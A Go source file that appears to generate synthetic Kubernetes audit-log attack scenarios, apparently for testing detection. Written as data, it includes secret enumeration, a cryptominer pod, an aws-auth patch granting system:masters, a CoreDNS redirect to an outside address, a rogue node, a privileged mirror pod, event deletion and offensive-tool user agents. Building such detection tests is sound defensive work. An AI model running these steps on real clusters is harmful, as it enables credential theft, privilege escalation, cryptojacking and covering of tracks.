package main

import (
	"encoding/base64"
	"fmt"
)

func base64Text(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// secrets is how they are collected.
func secrets() []step {
	const (
		deployer = "system:serviceaccount:shop:deployer"
		node     = "system:node:node-1"
	)
	leak := `{apiVersion: v1, kind: ConfigMap, metadata: {name: settings, namespace: shop}, data: {credentials: "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n` +
		`aws_secret_access_key = example-not-a-key\n", database: "password=example-not-a-password"}}`
	return []step{
		kubectl(rows(46, 47), trent, "get secrets -A"),
		kubectl(rows(47), trent, "get secrets -n kube-system"),
		kubectl(rows(47), trent, "get secrets -n shop -o yaml"),
		curl(rows(48, 49), trent, "10.8.0.21", curling, "GET /api/v1/namespaces/shop/secrets/key-%d", 200).repeat(20),
		curl(rows(49), trent, "10.8.0.21", python, "GET /api/v1/namespaces/shop/secrets", 200),
		curl(rows(50), deployer, "10.244.0.66", python, "GET /api/v1/namespaces/shop/secrets/db-1", 200),
		curl(rows(50, 66), node, internet, curling, "GET /api/v1/namespaces/shop/secrets/db-1", 200),
		curl(rows(51, 58), mallory, internet, "kubectl/v1.36.3 (linux/amd64) kubernetes/0000000", "GET /api/v1/namespaces/shop/secrets/key-%d", 403).repeat(20),
		curl(rows(52, 67), trent, internetToo, browser, "GET /api/v1/namespaces/shop/secrets/db-1", 200),
		kubectl(rows(53), trent, "create secret generic extra -n shop --from-literal=password=example-not-a-password"),
		kubectl(rows(53), trent, "label secret extra -n shop kept=yes"),
		kubectl(rows(53), trent, "delete secret extra -n shop"),
		kubectl(rows(54), trent, "apply -f -").in(leak),
	}
}

// outside is what those do who may do little or nothing.
func outside() []step {
	const account = "system:serviceaccount:shop:default"
	guess := curl(rows(58, 80), nobody, internet, curling, "GET /api/v1/nodes", 401).repeat(40)
	guess.curl.token = "guess-%d"
	// What kubectl asks for: resource after resource.
	const sweep = "get pods,services,endpointslices,configmaps,serviceaccounts,deployments,daemonsets,statefulsets,replicasets,jobs,cronjobs,ingresses,networkpolicies," +
		"roles,rolebindings,persistentvolumeclaims,resourcequotas,limitranges,clusterroles,clusterrolebindings,nodes,namespaces,persistentvolumes,storageclasses," +
		"mutatingwebhookconfigurations,validatingwebhookconfigurations,customresourcedefinitions,certificatesigningrequests -A"
	steps := []step{
		curl(rows(56), nobody, internet, curling, "GET /api/v1/namespaces/shop/pods", 200),
		curl(rows(56, 57), nobody, internet, curling, "POST /api/v1/namespaces/shop/pods", 201).in(
			`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"welcome"},"spec":{"containers":[{"name":"c","image":"docker.io/kinsing/xmrig:latest"}]}}`),
		kubectl(rows(58, 68), mallory, "get nodes").denied(),
		curl(rows(58, 59), mallory, internet, curling, "GET /apis/rbac.authorization.k8s.io/v1/namespaces/project-%d/roles", 403).repeat(40),
		curl(rows(58, 59), nobody, internetToo, curling, "GET /apis/rbac.authorization.k8s.io/v1/namespaces/project-%d/rolebindings", 403).repeat(40),
		kubectl(rows(60), mallory, "auth can-i --list"),
		kubectl(rows(60), mallory, "auth can-i create pods -n kube-system").either(),
		kubectl(rows(60), mallory, "auth whoami"),
		kubectl(rows(61), trent, sweep),
		kubectl(rows(58, 63), mallory, "create -n shop --validate=false -f -").in(podManifest("shop", "mine", "", "")).denied(),
		kubectl(rows(58, 63), mallory, "create clusterrolebinding mine --clusterrole=cluster-admin --user="+mallory).denied(),
		curl(rows(58, 64), account, "10.244.0.67", curling, "GET /api/v1/namespaces/kube-system/secrets", 403),
		curl(rows(58, 64), account, "10.244.0.67", python, "GET /api/v1/namespaces/shop/endpoints-of-nobody", 403),
		curl(rows(67), mallory, internet, curling, "GET /api/v1/namespaces", 0),
		guess,
	}
	for _, tool := range []string{"access_matrix/v0.0.0 (linux/amd64) kubernetes/$Format", "kubeletctl/1.12", "peirates", "trufflehog/3.88.0", "azurehound/2.2.1", "kube-hunter/0.6.8"} {
		steps = append(steps, curl(rows(62), mallory, internet, tool, "GET /api/v1/namespaces/shop/pods", 0))
	}
	return steps
}

// network is how things become reachable, and names and rights are bent.
func network() []step {
	board := `{apiVersion: v1, kind: Service, metadata: {name: kubernetes-dashboard, namespace: shop}, spec: {type: LoadBalancer, selector: {app: web}, ports: [{port: 443, targetPort: 8443}]}}`
	ingress := `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: open, namespace: shop}, spec: {rules: [{host: shop.example.test, http: {paths: ` +
		`[{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]}}]}}`
	corefile := `{"data":{"Corefile":".:53 {\n    forward . 203.0.113.66\n}\n"}}`
	roles := `{"data":{"mapUsers":"- userarn: arn:aws:iam::111122223333:user/mallory\n  username: mallory\n  groups: [system:masters]\n"}}`
	return []step{
		kubectl(rows(69), trent, "patch configmap aws-auth -n kube-system -p").more(roles),
		kubectl(rows(70), trent, "patch configmap coredns -n kube-system -p").more(corefile),
		kubectl(rows(72), trent, "expose deployment web -n shop --name=web-open --type=NodePort --port=80"),
		kubectl(rows(72, 73), trent, "apply -f -").in(board),
		kubectl(rows(74), trent, "apply -f -").in(ingress),
	}
}

// traces is what is left of it, and what is not.
func traces(f facts) []step {
	machine := `{"apiVersion":"v1","kind":"Node","metadata":{"name":"rogue-1","labels":{"kubernetes.io/hostname":"rogue-1"}}}`
	mirror := fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"agent-node-2","annotations":{"kubernetes.io/config.mirror":"5d4c7b0e","kubernetes.io/config.hash":"5d4c7b0e",`+
		`"kubernetes.io/config.source":"file","kubernetes.io/config.seen":"2026-01-01T00:00:00Z"},"ownerReferences":[{"apiVersion":"v1","kind":"Node","name":"node-2","uid":%q,"controller":true}]},`+
		`"spec":{"nodeName":"node-2","hostNetwork":true,"containers":[{"name":"c","image":"docker.io/library/agent:1","securityContext":{"privileged":true}}]}}`, f.nodeUID)
	return []step{
		kubectl(rows(78), rogue, "create --validate=false -f -").in(machine),
		curl(rows(79), "system:node:node-2", "10.10.0.12", kubeletAgent, "POST /api/v1/namespaces/shop/pods", 201).in(mirror),
		kubectl(rows(71), trent, "delete events --all -n kube-system"),
		curl(rows(71), trent, "10.8.0.21", curling, "DELETE /api/v1/namespaces/shop/events", 200),
		kubectl(rows(75), trent, "create namespace kube-systems"),
		kubectl(rows(76), trent, "delete deployment updater -n shop"),
		kubectl(rows(76), trent, "delete namespace old-project"),
		kubectl(rows(76, 77), trent, "delete configmaps --all -n team-a"),
	}
}
